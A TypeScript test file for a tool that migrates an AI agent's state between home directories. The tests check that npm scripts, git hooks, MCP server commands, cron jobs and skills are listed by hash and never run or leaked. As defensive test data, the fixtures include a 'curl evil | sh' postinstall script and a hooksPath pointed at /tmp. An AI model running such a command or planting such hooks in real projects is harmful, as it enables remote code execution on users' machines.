import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { receivedTree } from '../../src/checks/received.ts';
import { WillRunList } from '../../src/checks/will-run.ts';
import type { Runnable } from '../../src/core/will-run.ts';
import { isEntry } from '../../src/walk/entry.ts';
import { walk } from '../../src/walk/walker.ts';
import { nameInConfig } from '../kit/state/config.ts';
import { stagedState, type Staged } from '../steps/staged.ts';

const SECRET = 'mcp-canary';
const ENVRC = 'export X=1\n';
const SCRIPT = 'curl evil | sh';

function put(staging: string, name: string, text: string): void {
  const path = join(staging, name);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
}

function furnish(staging: string): void {
  put(staging, 'workspace/.envrc', ENVRC);
  put(staging, 'workspace/package.json', JSON.stringify({ scripts: { postinstall: SCRIPT } }));
  put(staging, 'workspace/.git/hooks/post-merge', '#!/bin/sh\nid\n');
  put(staging, 'workspace-ops/.git/config', '[core]\n\thooksPath = /tmp\n');
  put(staging, 'workspace/app/package.json', JSON.stringify({ scripts: { test: 'x' } }));
  put(staging, 'extensions/voice/node_modules/a/index.js', 'a');
  nameInConfig(
    join(staging, 'smart-agent-neo.json'),
    `{ servers: { files: { command: '/opt/x/npx', args: ['--token=${SECRET}'] } } }`,
    'mcp',
  );
}

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

/** What the walk of a copy lists, with hashes that the walk has or has not made. */
async function listed({ plan }: Staged, hash: boolean): Promise<readonly Runnable[]> {
  const list = new WillRunList(plan);
  for (const root of plan.roots) {
    const { room, workspaces } = root;
    for await (const item of walk(root.stagingPath, { excludes: plan.excludes, room, workspaces, hash }))
      if (isEntry(item)) await list.take(root, item);
  }
  return list.all.listed;
}

describe('what may run on this machine', () => {
  it('is listed by name and hash after the first copy, and nothing of it is run or shown', async () => {
    const staged = await stagedState({ oldHome: '/home/olga', newHome: '/home/nick', furnish });
    await receivedTree(staged.plan).run(staged.world);
    const told = staged.events.find((event) => event.type === 'run.will-run');
    if (told?.type !== 'run.will-run') throw new Error('it was not told');
    const sums = new Map(told.listed.map(({ kind, name, sha256: sum }) => [`${kind} ${name}`, sum]));
    expect(told.count).toBe(told.listed.length);
    expect([...sums.keys()].filter((name) => !name.startsWith('cron-job')).sort()).toEqual([
      'command state/smart-agent-neo.json: /mcp/servers/files/command (npx)',
      'envrc state/workspace/.envrc',
      'extension state/extensions/voice',
      'git-config state/workspace-ops/.git/config',
      'git-hook state/workspace-ops/.git/hooks/pre-commit',
      'git-hook state/workspace/.git/hooks/post-merge',
      'git-hook state/workspace/.git/hooks/pre-commit',
      'hook state/hooks/on-start.sh',
      'npm-script state/workspace/package.json: postinstall',
      'skill state/skills/weather',
    ]);
    expect([...sums.keys()].filter((name) => name.startsWith('cron-job'))).toHaveLength(45);
    expect(sums.has('cron-job state/cron/jobs.json: job 7')).toBe(true);
    expect(sums.get('envrc state/workspace/.envrc')).toBe(sha256(ENVRC));
    expect(sums.get('npm-script state/workspace/package.json: postinstall')).toBe(sha256(SCRIPT));
    expect([...sums.values()].every((sum) => /^[0-9a-f]{64}$/.test(sum ?? ''))).toBe(true);
    expect(told.listed.find(({ name }) => name === 'state/extensions/voice')?.files).toBe(2);
    expect(JSON.stringify(told)).not.toMatch(new RegExp(`${SECRET}|${SCRIPT.replace('|', '\\|')}`));
  });

  it('has the same hashes whether the walk has made them or not, and others once a byte, a name, a bit or a link is another', async () => {
    const staged = await stagedState({ oldHome: '/home/olga', newHome: '/home/nick', furnish });
    const first = await listed(staged, true);
    expect(await listed(staged, false)).toEqual(first);
    const sumOf = async (name: string) => (await listed(staged, false)).find((one) => one.name === name)?.sha256;
    const sums = [first.find(({ name }) => name === 'state/skills/weather')?.sha256];
    const script = join(staged.staging, 'skills/weather/run.sh');
    for (const change of [
      () => writeFileSync(script, '#!/bin/sh\nid\n'),
      () => chmodSync(script, 0o644),
      () => symlinkSync('run.sh', join(staged.staging, 'skills/weather/other')),
      () => put(staged.staging, 'skills/weather/more.py', ''),
    ]) {
      change();
      sums.push(await sumOf('state/skills/weather'));
    }
    expect(new Set(sums).size).toBe(5);
    expect(sums).not.toContain(undefined);
  });
});
